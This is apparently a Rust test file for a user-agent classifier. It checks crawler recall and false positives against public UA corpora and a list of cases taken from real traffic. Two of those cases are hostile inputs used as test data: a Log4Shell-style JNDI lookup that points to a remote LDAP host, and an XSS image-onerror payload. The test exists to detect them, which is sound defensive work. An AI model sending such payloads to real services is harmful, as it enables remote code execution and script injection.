//! The UA classifier against what others collected: the real crawlers of crawler-user-agents
//! must be flagged, and the real browsers of fake-useragent and the device UAs of uap-core
//! must not be, each put, correctly encoded, into an otherwise valid request.

mod common;

use common::*;
use metrica_s2s_rules::{crawler_patterns, parse_input, Code, Context, Settings, Validator};
use std::collections::BTreeSet;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fixtures/user-agents");

/// Entries of crawler-user-agents keyed on strings real devices send (the classifier's own
/// list of them is checked against the corpora here, not copied): their instances are people.
const DEVICE_ENTRIES: &[&str] = &[
    "AP3A\\.240617\\.008",
    "MetaIAB Facebook",
    "Code\\/1\\.",
    "Trae\\/",
    "Fluid",
];

/// The codes that say "no person's device sent this".
const NOT_A_DEVICE: &[Code] = &[Code::UaBot, Code::UaServerClient, Code::UaNotAUserAgent];

fn read(path: &str) -> String {
    let path = format!("{FIXTURES}/{path}");
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// Every diagnostic the validator gives `ua` in an otherwise valid request.
fn judge(validator: &mut Validator, ua: &str) -> Vec<(Code, bool, String)> {
    let settings = Settings::default();
    let ctx = Context::new(NOW, &settings);
    let input = target(&[("device_ua", Some(&enc(ua)))]);
    let req = parse_input(input.as_bytes()).expect("parses");
    validator
        .validate(&req, &ctx)
        .into_iter()
        .map(|d| (d.code, d.is_error(), d.message))
        .collect()
}

#[test]
fn crawlers_are_flagged() {
    let list: serde_json::Value =
        serde_json::from_str(&read("crawler-user-agents/crawler-user-agents.json")).expect("json");
    assert!(crawler_patterns() >= 1000, "the crawler list did not load");
    let mut validator = Validator::new(Settings::default().ua_cache_entries);
    let (mut flagged, mut total) = (0, 0);
    let mut missed = Vec::new();
    for entry in list.as_array().expect("a list") {
        if DEVICE_ENTRIES.contains(&entry["pattern"].as_str().unwrap_or("")) {
            continue;
        }
        for ua in entry["instances"].as_array().into_iter().flatten() {
            let Some(ua) = ua.as_str() else { continue };
            if ua.trim().is_empty() {
                continue;
            }
            total += 1;
            let said = judge(&mut validator, ua);
            if said.iter().any(|(c, _, _)| NOT_A_DEVICE.contains(c)) {
                flagged += 1;
            } else {
                missed.push(format!("{ua:?} ({})", entry["pattern"]));
            }
        }
    }
    let recall = flagged as f64 / total as f64;
    eprintln!(
        "crawler recall: {flagged} of {total} ({:.1}%)",
        recall * 100.0
    );
    assert!(total > 2000, "only {total} instances");
    assert!(
        recall >= 0.95,
        "{flagged} of {total} crawler UAs flagged; missed:\n{}",
        missed.join("\n")
    );
}

#[test]
fn the_device_entries_of_the_crawler_list_are_devices() {
    let list: serde_json::Value =
        serde_json::from_str(&read("crawler-user-agents/crawler-user-agents.json")).expect("json");
    let mut validator = Validator::new(Settings::default().ua_cache_entries);
    for entry in list.as_array().expect("a list") {
        if !DEVICE_ENTRIES.contains(&entry["pattern"].as_str().unwrap_or("")) {
            continue;
        }
        for ua in entry["instances"].as_array().into_iter().flatten() {
            let ua = ua.as_str().expect("a string");
            let said = judge(&mut validator, ua);
            assert!(
                !said.iter().any(|(c, e, _)| *e || NOT_A_DEVICE.contains(c)),
                "{ua:?}: {said:?}"
            );
        }
    }
}

#[test]
fn no_real_browser_is_flagged() {
    let mut validator = Validator::new(Settings::default().ua_cache_entries);
    let uas: BTreeSet<String> = read("fake-useragent/browsers.jsonl")
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("a JSON line");
            v["useragent"].as_str().expect("useragent").to_owned()
        })
        .collect();
    assert!(uas.len() > 800, "only {} browsers", uas.len());
    let mut wrong = Vec::new();
    for ua in &uas {
        for (code, error, message) in judge(&mut validator, ua) {
            if error || NOT_A_DEVICE.contains(&code) || code == Code::UaTruncated {
                wrong.push(format!("{ua:?}: {code} {message}"));
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} browsers flagged:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// uap-core's UAs that are not a person's device, each reviewed: the ones uap-core's own device
/// parser calls Spider, and the crawlers, monitors and libraries it leaves unnamed.
fn uap_not_devices() -> BTreeSet<String> {
    read("uap-core-not-devices.txt")
        .lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
        .map(str::to_owned)
        .collect()
}

#[test]
fn no_uap_device_is_flagged_and_its_bots_are() {
    let not_devices = uap_not_devices();
    let mut validator = Validator::new(Settings::default().ua_cache_entries);
    let (mut wrong, mut unflagged) = (Vec::new(), Vec::new());
    let mut devices = 0;
    for line in read("uap-core.tsv").lines().filter(|l| !l.starts_with('#')) {
        let ua = line.rsplit('\t').next().expect("a UA");
        let said = judge(&mut validator, ua);
        let flagged = said.iter().any(|(c, _, _)| NOT_A_DEVICE.contains(c));
        if not_devices.contains(ua) {
            if !flagged {
                unflagged.push(ua.to_owned());
            }
            continue;
        }
        devices += 1;
        for (code, error, message) in said {
            if error || NOT_A_DEVICE.contains(&code) {
                wrong.push(format!("{ua:?}: {code} {message}"));
            }
        }
    }
    assert!(devices > 16_000, "only {devices} device UAs");
    assert!(
        wrong.is_empty(),
        "{} device UAs flagged:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    assert!(
        unflagged.is_empty(),
        "{} reviewed non-devices not flagged:\n{}",
        unflagged.len(),
        unflagged.join("\n")
    );
}

#[test]
fn findings_from_real_traffic() {
    let mut validator = Validator::new(Settings::default().ua_cache_entries);
    let codes = |v: &mut Validator, ua: &str| -> Vec<Code> {
        judge(v, ua).into_iter().map(|(c, _, _)| c).collect()
    };
    for (ua, want) in [
        ("YandexMetrika/2.0", Code::UaServerClient),
        ("Java-http-client/17.0.2", Code::UaServerClient),
        ("W3C-checklink/4.81 libwww-perl/5.836", Code::UaServerClient),
        ("Go 1.1 package http", Code::UaServerClient),
        ("GoogleOther", Code::UaBot),
        ("Mozilla/5.0 (compatible; Google-InspectionTool/1.0)", Code::UaBot),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36", Code::UaBot),
        ("${jndi:ldap://203.0.113.7/a}", Code::UaBot),
        ("hello", Code::UaNotAUserAgent),
        ("<img src=x onerror=alert(1)>", Code::UaNotAUserAgent),
    ] {
        assert!(codes(&mut validator, ua).contains(&want), "{ua}: {:?}", codes(&mut validator, ua));
    }
    for ua in [
        "Mozilla/5.0 (Linux; Android 10; CUBOT; P60; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 Instagram 312.1.0.34.111 Android (29/10; 480dpi; 1080x2160; CUBOT; P60; P60; mt6765; en_US; 548323754)",
        "My%20App/90 CFNetwork/1410.0.3 Darwin/22.6.0",
        "%E7%BD%91%E6%98%93%E4%BA%91%E9%9F%B3%E4%B9%90/8.9.20 CFNetwork/1410.0.3 Darwin/22.6.0",
        "MyApp/3.1 (Linux; Android 14; Pixel 8) okhttp/4.12.0",
    ] {
        let said = judge(&mut validator, ua);
        assert!(
            !said.iter().any(|(c, e, _)| *e || NOT_A_DEVICE.contains(c)),
            "{ua}: {said:?}"
        );
    }
}
